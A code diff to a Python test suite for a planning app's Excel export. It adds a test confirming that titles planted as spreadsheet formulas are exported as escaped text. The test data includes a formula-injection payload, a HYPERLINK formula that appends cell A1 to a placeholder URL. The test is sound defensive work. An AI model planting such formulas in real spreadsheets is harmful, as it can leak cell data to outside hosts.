@@ -13,7 +13,7 @@ from openpyxl import load_workbook
 
 from chuxin.audit.models import AuditEntry
 from chuxin.plans import reminders, selectors, services
-from chuxin.plans.models import DEFAULT_AREAS, Plan, PlanArea, Task
+from chuxin.plans.models import DEFAULT_AREAS, Plan, PlanArea, PlanItem, Task
 from chuxin.records.models import WorkRecord
 from chuxin.records.selectors import period_facts as record_facts
 
@@ -113,6 +113,25 @@ def test_the_export_has_one_row_per_task_with_people_and_state(world, plan, item
     assert body[1][4:7] == (str(world.secretary), str(world.committee), str(world.member_user))
     assert body[1][7].date() == START and body[1][9] == 0 and body[1][10] == "overdue"
     assert body[0][10] == "not started"
+
+
+def test_titles_planted_as_formulas_are_exported_as_text(world, plan, item, departments, sent, client):
+    services.task_create(actor=world.secretary, plan_item=item, title="制定年度学习计划", start_on=START, due_on=DUE)
+    # Written around the services' validation, as data from before the titles were checked could be.
+    PlanItem.objects.filter(pk=item.pk).update(title='=HYPERLINK("http://x/?"&A1,"x")')
+    Task.objects.filter(plan_item=item).update(title="@SUM(1+1)")
+    Plan.objects.filter(pk=plan.pk).update(title="-计划")
+    client.force_login(world.secretary)
+
+    ws = load_workbook(io.BytesIO(client.get(reverse("plans:export", args=[plan.pk])).content)).active
+
+    assert (ws["A1"].data_type, ws["A1"].value) == ("s", f"{plan.organization.name} · -计划")
+    assert ws.freeze_panes == "A3"
+    item_cell, task_cell = ws["B3"], ws["C3"]
+    assert (item_cell.data_type, item_cell.value) == ("s", '\'=HYPERLINK("http://x/?"&A1,"x")')
+    assert (task_cell.data_type, task_cell.value) == ("s", "'@SUM(1+1)")
+    assert all(cell.data_type != "f" for row in ws.iter_rows() for cell in row)
+    assert ws["H3"].is_date and ws["H3"].number_format == "yyyy-mm-dd"
 
 
 def test_areas_default_then_rename_reorder_and_add(world, client):
